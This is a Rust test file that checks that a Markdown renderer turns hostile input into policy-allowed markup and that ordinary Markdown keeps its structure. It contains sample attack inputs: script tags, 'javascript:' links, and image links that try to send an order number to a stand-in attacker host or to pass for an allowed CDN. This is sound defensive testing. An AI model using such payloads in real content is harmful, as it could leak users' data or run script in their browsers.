//! Markdown rendering tests: hostile input renders to markup the policy allows; ordinary
//! Markdown keeps its shape. (HTML answers are sanitized in the browser: the widget's tests run
//! the same hostile inputs through that sanitizer in Chromium.)
#![allow(clippy::unwrap_used)] // tests: a panic is the failure report

use lexstream_protocol::render::audit::violations;
use lexstream_protocol::render::policy::ImageOrigins;
use lexstream_protocol::render::render_markdown;

/// Hostile Markdown/HTML inputs, shared with the widget's sanitizer tests.
fn hostile_inputs() -> Vec<String> {
    serde_json::from_str(include_str!("fixtures/hostile_markup.json")).unwrap()
}

/// The origin the site owner allows images from in these tests: hostile inputs try to pass for it.
fn cdn() -> ImageOrigins {
    ImageOrigins::parse(&["https://cdn.example.com"]).unwrap()
}

/// Renders with no image origin allowed (the default).
fn render(markdown: &str) -> String {
    render_markdown(markdown, &ImageOrigins::none())
}

/// The Markdown renderer leaves links' `target`/`rel` to the sanitizer; everything else it must
/// already get right on its own.
fn violations_before_sanitizing(html: &str, images: &ImageOrigins) -> Vec<String> {
    violations(html, images).into_iter().filter(|v| !v.starts_with("a link without")).collect()
}

#[test]
fn hostile_markdown_renders_to_allowed_markup_only() {
    let inputs = hostile_inputs();
    assert!(inputs.len() >= 30, "the fixture lost its inputs");
    for input in inputs {
        for images in [ImageOrigins::none(), cdn()] {
            let html = render_markdown(&input, &images);
            let found = violations_before_sanitizing(&html, &images);
            assert!(found.is_empty(), "{found:?}\n input: {input}\noutput: {html}");
        }
    }
}

#[test]
fn raw_html_in_markdown_is_shown_as_text() {
    assert_eq!(
        render("Use <b>bold</b>\n\n<script>alert(1)</script>"),
        "<p>Use &lt;b&gt;bold&lt;/b&gt;</p>\n&lt;script&gt;alert(1)&lt;/script&gt;"
    );
}

#[test]
fn dangerous_link_keeps_its_text_but_loses_its_target() {
    let html = render("[click me](javascript:alert(1)) and ![a cat](data:image/png;base64,AA==)");
    assert_eq!(html, "<p>click me and a cat</p>\n");
}

#[test]
fn allowed_links_and_autolinks_keep_their_targets() {
    let html = render("[a](https://a.example) [b](/pricing) <mailto:help@example.com> <help@example.com>");
    assert_eq!(html.matches("<a href=").count(), 4, "{html}");
    assert!(html.contains("href=\"mailto:help@example.com\""), "{html}");
    assert!(html.contains("href=\"/pricing\""), "{html}");
}

#[test]
fn ordinary_markdown_keeps_its_structure() {
    let markdown = "\
# Title
## Subtitle

A paragraph with **bold**, *em*, `code` and ~~gone~~.

- one
- two

1. first
2. second

| Name | Qty |
|:-----|----:|
| tea  |   2 |

```rust
fn main() { println!(\"<hi>\"); }
```

> quoted
";
    let html = render(markdown);
    for expected in [
        "<h1>Title</h1>",
        "<h2>Subtitle</h2>",
        "<strong>bold</strong>",
        "<em>em</em>",
        "<code>code</code>",
        "<del>gone</del>",
        "<ul>\n<li>one</li>\n<li>two</li>\n</ul>",
        "<ol>\n<li>first</li>\n<li>second</li>\n</ol>",
        "<table>",
        "<th style=\"text-align: left\">Name</th>",
        "<td style=\"text-align: right\">2</td>",
        "<pre><code class=\"language-rust\">fn main() { println!(\"&lt;hi&gt;\"); }\n</code></pre>",
        "<blockquote>\n<p>quoted</p>\n</blockquote>",
    ] {
        assert!(html.contains(expected), "missing {expected:?} in\n{html}");
    }
}

#[test]
fn an_image_from_an_allowed_origin_loads_with_its_alt_text() {
    let html = render_markdown("![a cat](https://cdn.example.com/cat.png \"Tom\")", &cdn());
    assert_eq!(html, "<p><img src=\"https://cdn.example.com/cat.png\" alt=\"a cat\" title=\"Tom\" /></p>\n");
}

#[test]
fn an_image_from_anywhere_else_is_shown_as_its_alt_text() {
    for markdown in [
        "Order ![the order number](https://attacker.example/?q=4711) shipped.",
        "Order ![the order number](/account/logout) shipped.",
        "Order ![the order number](//cdn.example.com/x.png) shipped.",
        "Order ![the order number](https://cdn.example.com@attacker.example/x.png) shipped.",
        "Order ![the order number][x] shipped.\n\n[x]: https://attacker.example/x.png",
    ] {
        let html = render_markdown(markdown, &cdn());
        assert_eq!(html, "<p>Order the order number shipped.</p>\n", "{markdown}");
    }
}

#[test]
fn without_allowed_origins_no_image_loads() {
    assert_eq!(render("![a cat](https://cdn.example.com/cat.png)"), "<p>a cat</p>\n");
}

#[test]
fn links_keep_their_rules_whatever_the_image_origins() {
    let html = render_markdown("[account](/account) [logout](https://attacker.example/x)", &cdn());
    assert_eq!(
        html,
        "<p><a href=\"/account\">account</a> <a href=\"https://attacker.example/x\">logout</a></p>\n"
    );
}
